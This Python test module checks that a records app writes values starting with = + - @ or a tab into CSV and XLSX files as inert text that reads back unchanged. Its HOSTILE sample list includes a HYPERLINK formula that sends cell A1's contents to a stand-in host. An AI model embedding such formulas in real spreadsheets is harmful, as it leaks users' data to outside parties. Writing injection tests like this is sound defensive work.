"""No formula injection: text beginning with = + - @ stays text in every CSV and XLSX we write,
and reads back unchanged."""

from __future__ import annotations

import csv
import tempfile
from pathlib import Path

import openpyxl
from hypothesis import given
from hypothesis import strategies as st

from models.cell_safety import FORMULA_START, csv_text, from_csv_text
from models.records_format import read_table, write_table

NAME, NOTE = "Họ và tên", "Ghi chú"
HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"Bấm")',
    "+84 912 345 678",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
]


@given(st.text(max_size=40))
def test_csv_text_round_trips_and_never_starts_a_formula(value: str) -> None:
    written = csv_text(value)
    assert not written.startswith(FORMULA_START)
    assert from_csv_text(written) == value


def test_records_files_keep_hostile_names_as_text(tmp_path: Path) -> None:
    for suffix in (".csv", ".xlsx"):
        path = tmp_path / f"visits{suffix}"
        write_table(path, [{NAME: name, NOTE: name} for name in HOSTILE])
        if suffix == ".csv":
            with path.open(encoding="utf-8-sig", newline="") as handle:
                cells = [row[0] for row in list(csv.reader(handle))[1:]]
            assert not any(cell.startswith(FORMULA_START) for cell in cells)
        else:
            sheet = openpyxl.load_workbook(path).worksheets[0]
            kinds = {cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row}
            assert "f" not in kinds
        names = [row.get(NAME) for row in read_table(path).rows]
        assert names == HOSTILE


@given(st.lists(st.text(alphabet="=+-@ab\t1", min_size=1, max_size=8), min_size=1, max_size=5))
def test_any_note_reads_back_as_written(notes: list[str]) -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "visits.xlsx"
        write_table(path, [{NAME: "An", NOTE: note} for note in notes])
        assert [row.get(NOTE) for row in read_table(path).rows] == notes
